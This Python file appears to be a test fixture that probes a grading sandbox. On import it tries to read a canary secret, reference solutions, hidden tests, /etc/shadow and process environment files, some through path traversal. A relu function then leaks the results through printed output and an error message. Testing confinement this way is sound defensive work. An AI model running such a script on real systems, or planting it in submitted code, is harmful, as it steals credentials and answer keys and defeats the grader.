# attack: reads whatever it can guess, and reports it by every way out
# levels: jail confined
# review: yes
import os
import subprocess
import sys

PLACES = ["@CANARY@/secret.txt", "@SOLUTIONS@/reference.py", "@SOLUTIONS@/checks/test_relu.py",
          "@ASSIGNMENT@/library_pieces.py", "@ASSIGNMENT@/checks/test_relu.py", "/etc/shadow",
          "/proc/1/environ", "/proc/@PID@/environ", "/proc/@PID@/cmdline", "/proc/self/../@PID@/environ",
          "/proc/@PID@/root@CANARY@/secret.txt", "/proc/@PID@/cwd", "../../solutions/xor_by_hand/reference.py"]
found = []
for place in PLACES:
    try:
        with open(place, "rb") as file:
            found.append(place + ": " + file.read(100).decode("utf-8", "replace"))
    except OSError:
        pass
for folder in ("@CANARY@", "@SOLUTIONS@", "@ASSIGNMENT@", os.path.expanduser("~root"), "/home"):
    try:
        found += os.listdir(folder)
    except OSError:
        pass
try:
    found.append(subprocess.run(["cat", "@CANARY@/secret.txt"], capture_output=True).stdout.decode())
except BaseException:
    pass


def relu(x):
    print(found)
    print(found, file=sys.stderr)
    raise ValueError(str(found))
